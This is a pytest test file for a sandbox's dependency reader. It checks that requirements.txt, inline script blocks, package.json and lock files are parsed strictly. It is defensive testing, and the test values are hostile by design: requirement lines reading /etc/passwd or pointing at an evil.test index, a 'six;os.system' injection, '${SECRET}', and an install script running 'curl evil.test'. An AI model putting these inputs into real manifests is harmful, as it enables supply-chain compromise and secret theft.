"""What scripts say that they need: read from the files of the time's usual tools, and refused where it is more."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from skillyard.sandbox.layers import Needs, layer_key, read_needs
from skillyard.sandbox.model import Level
from skillyard.skill.faults import SkillError

_BLOCK = '#!/usr/bin/env python\n# /// script\n# requires-python = ">=3.8"\n# dependencies = [%s]\n# ///\nprint(1)\n'


def _skill(folder: Path, **files: str) -> Path:
    for name, text in files.items():
        path = folder / name.replace("__", "/").replace("_json", ".json").replace("_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def _faults(folder: Path, script: str) -> list[str]:
    with pytest.raises(SkillError) as caught:
        read_needs(folder, script)
    return [f"{fault.file}:{fault.line} {fault.code}" for fault in caught.value.faults]


def test_a_script_that_says_nothing_needs_nothing(tmp_path: Path) -> None:
    skill = _skill(tmp_path, run_py="print(1)", run_js="", run_sh="", package_json='{"name": "x"}')
    assert all(read_needs(skill, script).is_empty for script in ("run.py", "run.js", "run.sh"))


def test_a_block_in_the_script_counts_before_the_list_beside_it(tmp_path: Path) -> None:
    skill = _skill(tmp_path, run_py=_BLOCK % '"requests[socks] >=2,<3", "rich"', requirements_txt="flask\n")
    assert read_needs(skill, "run.py").python == ("requests[socks]<3,>=2", "rich")


def test_an_empty_block_says_that_nothing_is_needed(tmp_path: Path) -> None:
    skill = _skill(tmp_path, run_py=_BLOCK % "", requirements_txt="flask\n")
    assert read_needs(skill, "run.py").is_empty


def test_the_nearest_list_counts(tmp_path: Path) -> None:
    skill = _skill(
        tmp_path,
        scripts__run_py="",
        scripts__requirements_txt="flask\n",
        requirements_txt="rich\n",
        top_py="",
        top_sh="",
    )
    assert read_needs(skill, "scripts/run.py").python == ("flask",)
    assert read_needs(skill, "top.py").python == read_needs(skill, "top.sh").python == ("rich",)
    assert read_needs(skill, "deep/er/gone.sh").python == ("rich",)


def test_a_list_is_read_with_its_comments_hashes_and_markers(tmp_path: Path) -> None:
    digest = "a" * 64
    hashes = f"\\\r\n    --hash=sha256:{digest} \\\n    --hash=sha256:{'b' * 64}"
    text = f"# what it needs\r\n\r\nsix==1.16.0 {hashes}  # two files\nrich>=13 ; python_version >= '3.8' # colours\n"
    skill = _skill(tmp_path, run_py="", requirements_txt=text)
    assert read_needs(skill, "run.py").python == (
        f"six==1.16.0 --hash=sha256:{digest} --hash=sha256:{'b' * 64}",
        'rich>=13; python_version >= "3.8"',
    )


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/passwd", "-e .", "--index-url https://evil.test/simple", "--find-links=/tmp", "-i https://evil.test",
        "./local.whl", "/tmp/x.whl", "x @ https://evil.test/x.whl", "x @ file:///etc/passwd", "https://evil.test/x.whl",
        "git+https://evil.test/x.git", "x @ git+ssh://evil.test/x", "six --global-option=x", "six --hash=md5:00",
        "six\x00", "six ; " + "(" * 400, "a" * 600, "six==1.0 --hash=sha256:zz", "$HOME", "${SECRET}",
        "six;os.system('x')",
    ],
)  # fmt: skip
def test_a_list_names_packages_and_nothing_else(tmp_path: Path, line: str) -> None:
    skill = _skill(tmp_path, run_py="", requirements_txt=f"rich\n{line}\n")
    assert _faults(skill, "run.py") == ["requirements.txt:2 bad_requirement"]


def test_every_fault_is_told_with_its_line(tmp_path: Path) -> None:
    skill = _skill(tmp_path, run_py="", requirements_txt="-r a\n\nrich\n-e b\n")
    assert _faults(skill, "run.py") == ["requirements.txt:1 bad_requirement", "requirements.txt:4 bad_requirement"]


@pytest.mark.parametrize(
    "script",
    [
        _BLOCK % '"x @ https://evil.test/x.whl"',
        _BLOCK % "1",
        _BLOCK % '"a"' + _BLOCK % '"b"',
        _BLOCK % "",
        "# /// script\n# dependencies = [\n# ///\n",
        "# /// script\n# dependencies = 'rich'\n# ///\n",
        "# /// script\n# dependencies = " + "[" * 5000 + "\n# ///\n",
        '# /// script\n# requires-python = ">=99"\n# ///\n',
        '# /// script\n# requires-python = "new"\n# ///\n',
        "# /// script\n# requires-python = 3\n# ///\n",
    ],
)
def test_a_block_that_cannot_be_kept_is_refused(tmp_path: Path, script: str) -> None:
    if script == _BLOCK % "":
        script = script.replace(">=3.8", "<3")
    assert len(_faults(_skill(tmp_path, run_py=script), "run.py")) == 1


def test_files_outside_the_skill_are_not_read(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("hunter2\n")
    skill = tmp_path / "skill"
    skill.mkdir()
    (skill / "run.py").write_text("")
    (skill / "requirements.txt").symlink_to(tmp_path / "secret")
    for script in ("run.py", "../secret.py", "/etc/hostname.py", "gone.py"):
        with pytest.raises(SkillError) as caught:
            read_needs(skill, script)
        assert "hunter2" not in str(caught.value)


def test_a_package_is_read_without_what_would_run(tmp_path: Path) -> None:
    package = {"name": "x", "scripts": {"install": "curl evil.test"}, "dependencies": {"left-pad": "^1.3.0"}}
    skill = _skill(tmp_path, run_mjs="", package_json=json.dumps({**package, "devDependencies": {"jest": "*"}}))
    node = read_needs(skill, "run.mjs").node
    assert node is not None
    assert json.loads(node.package) == {"dependencies": {"left-pad": "^1.3.0"}}
    assert node.lock == ""


def test_a_lock_goes_with_its_package(tmp_path: Path) -> None:
    skill = _skill(tmp_path, run_js="", package_json='{"dependencies": {"x": "1"}}', package_lock_json="{}")
    (skill / "package.lock.json").rename(skill / "package-lock.json")
    (skill / "package-lock.json").write_text(json.dumps(_lock("https://registry.npmjs.org/x/-/x-1.0.0.tgz")))
    node = read_needs(skill, "run.js").node
    assert node is not None
    assert json.loads(node.lock)["lockfileVersion"] == 3


def _lock(resolved: object, **entry: Any) -> dict[str, Any]:
    packages = {"": {"dependencies": {"x": "1"}}, "node_modules/x": {"version": "1.0.0", "integrity": "sha512-x"}}
    packages["node_modules/x"] |= {"resolved": resolved} | entry  # type: ignore[dict-item]
    return {"name": "x", "lockfileVersion": 3, "packages": packages}


@pytest.mark.parametrize(
    "spec",
    [
        "file:../x", "link:../x", "git+https://evil.test/x.git", "https://evil.test/x.tgz", "github:evil/x", "evil/x",
        "workspace:*", "npm:../x@1", "../x", "~/x", 1, None, {}, "x:y", "1.0.0\n",
    ],
)  # fmt: skip
def test_a_package_names_versions_and_nothing_else(tmp_path: Path, spec: object) -> None:
    skill = _skill(
        tmp_path, run_js="", package_json=json.dumps({"dependencies": {"x": spec, "ok": "npm:@a/b@^1 || 2"}})
    )
    assert _faults(skill, "run.js") == ["package.json:None bad_package"]


@pytest.mark.parametrize(
    "package",
    [
        '{"dependencies": {"x": "1"}, "workspaces": ["a"]}',
        '{"dependencies": ["x"]}',
        '{"dependencies": {"../x": "1"}}',
        '{"dependencies": {"x": "1"}, "overrides": {"y": {"z": "file:.."}}}',
        '{"dependencies": {"x": "1", "x": "2"}}',
        '{"dependencies": ' + "[" * 100 + "]" * 100 + "}",
        "[]",
        "{",
    ],
)
def test_a_package_that_cannot_be_kept_is_refused(tmp_path: Path, package: str) -> None:
    assert len(_faults(_skill(tmp_path, run_js="", package_json=package), "run.js")) == 1


@pytest.mark.parametrize(
    "lock",
    [
        {"lockfileVersion": 1},
        {},
        _lock("git+ssh://git@evil.test/x.git"),
        _lock("file:../x"),
        _lock("https://registry.npmjs.org/x.tgz", integrity=None),
        _lock(7),
        _lock("../x", link=True),
        {"lockfileVersion": 3, "packages": {"../x": {"integrity": "sha512-x"}}},
        {"lockfileVersion": 3, "packages": []},
    ],
)
def test_a_lock_that_leads_elsewhere_is_refused(tmp_path: Path, lock: dict[str, Any]) -> None:
    skill = _skill(tmp_path, run_js="", package_json='{"dependencies": {"x": "1"}}')
    (skill / "package-lock.json").write_text(json.dumps(lock))
    assert _faults(skill, "run.js") in (["package-lock.json:None bad_lock"], ["package-lock.json:None wrong_type"])


def test_the_key_of_a_layer_says_what_is_in_it() -> None:
    keys = {layer_key(Needs(python=python)) for python in [(), ("a",), ("a", "b"), ("a", "b")]}
    assert len(keys) == 3
    assert all(len(key) == 64 for key in keys)


def test_a_layer_of_one_kind_of_sandbox_is_not_taken_for_that_of_another() -> None:
    levels = [None, *(Level(kind="container", version=image, parts=()) for image in ("python:3.12", "python:3.13"))]
    assert len({layer_key(Needs(python=("a",)), level=level) for level in levels}) == 3
